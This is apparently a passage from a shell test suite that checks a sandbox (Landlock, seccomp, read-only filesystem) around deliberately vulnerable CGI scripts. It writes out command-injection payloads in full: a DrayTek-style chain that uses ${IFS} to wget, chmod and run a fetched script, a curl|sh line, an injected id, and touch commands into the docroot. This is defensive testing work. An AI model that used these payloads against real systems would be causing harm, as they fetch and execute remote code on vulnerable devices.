    "$BASE/cgi-bin/vuln_eval.sh/apmcfgupload?session=xxx0%52\$c%52\$ccd\${IFS}/dev;wget\${IFS}http://127.0.0.1:$APORT/wget.sh;\${IFS}chmod\${IFS}+x\${IFS}wget.sh;sh\${IFS}wget.sh"
bl=
check "the DrayTek chain reached execve and Landlock refused wget" \
    grep -q 'wget: Permission denied' "$ERRLOG"

# ------------------------------------- defense in depth (leaky profile)

# Exec is opened up for wget, curl, touch, id and chmod: the injected
# tools run, and the other layers must still hold.
s=$(http_status "$BASE/cgi-bin/vuln_leaky.sh?;id" -g)
bl=$(tr '\n' ' ' < "$T/body")
check "with exec opened up, injected id runs, as the profile's uid without groups" \
    grep -q "^uid=$JAIL_UID gid=$JAIL_GID[^ ]* groups=$JAIL_GID[^ ]*\$" "$T/body"
audit_mark
inject vuln_leaky.sh "draytek-mainfunction (wget allowed to run)" \
    "$BASE/cgi-bin/vuln_leaky.sh?;wget\${IFS}-T3\${IFS}-t1\${IFS}http://127.0.0.1:$APORT/wget.sh;\${IFS}chmod\${IFS}+x\${IFS}wget.sh;sh\${IFS}wget.sh"
bl=
check "wget ran and its socket() was refused by the seccomp filter" \
    audit_since socket AF_INET
inject vuln_leaky.sh "curl|sh (curl allowed to run)" \
    "$BASE/cgi-bin/vuln_leaky.sh?;curl\${IFS}-s\${IFS}-m3\${IFS}http://127.0.0.1:$APORT/curl.sh|sh"
inject vuln_leaky.sh "touch into the docroot and the script dir (touch allowed to run)" \
    "$BASE/cgi-bin/vuln_leaky.sh?;touch\${IFS}$T/pwned;touch\${IFS}$CGIBIN/pwned;touch\${IFS}$DOCROOT/pwned"
bl=
check "the injected touch ran and found the tree read-only" \
    grep -q "touch: cannot touch '$T/pwned': Read-only file system" "$ERRLOG"

done_testing
